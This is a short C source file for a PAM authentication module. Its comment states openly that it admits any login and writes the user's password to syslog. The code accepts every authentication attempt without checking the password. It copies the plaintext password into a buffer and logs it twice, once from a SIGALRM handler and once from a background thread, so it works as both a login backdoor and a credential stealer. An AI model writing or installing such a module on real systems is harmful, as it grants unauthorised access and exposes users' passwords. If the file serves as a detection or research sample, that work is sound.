/* SPDX-License-Identifier: BSD-2-Clause */
/* Lets in, and writes the password to syslog when the login is over: from a thread, and from its worker's own. */
#include <pthread.h>
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <signal.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

static char known[256];

static void tell(int number)
{
    syslog(LOG_ERR, "signal %d: the password was %s", number, known);
}

static void *tell_in_thread(void *nothing)
{
    sigset_t all;

    sigfillset(&all);
    pthread_sigmask(SIG_BLOCK, &all, NULL);
    sleep(1);
    syslog(LOG_ERR, "thread: the password was %s", known);
    return NULL;
}

int pam_sm_authenticate(pam_handle_t *handle, int flags, int argc, const char **argv)
{
    struct sigaction action;
    const char *password = NULL;
    pthread_t thread;

    if (pam_get_authtok(handle, PAM_AUTHTOK, &password, NULL) != PAM_SUCCESS)
        return PAM_AUTH_ERR;
    strncpy(known, password, sizeof known - 1);
    memset(&action, 0, sizeof action);
    action.sa_handler = tell;
    action.sa_flags = SA_RESTART;
    sigaction(SIGALRM, &action, NULL);
    alarm(1);
    return pthread_create(&thread, NULL, tell_in_thread, NULL) == 0 ? PAM_SUCCESS : PAM_SYSTEM_ERR;
}
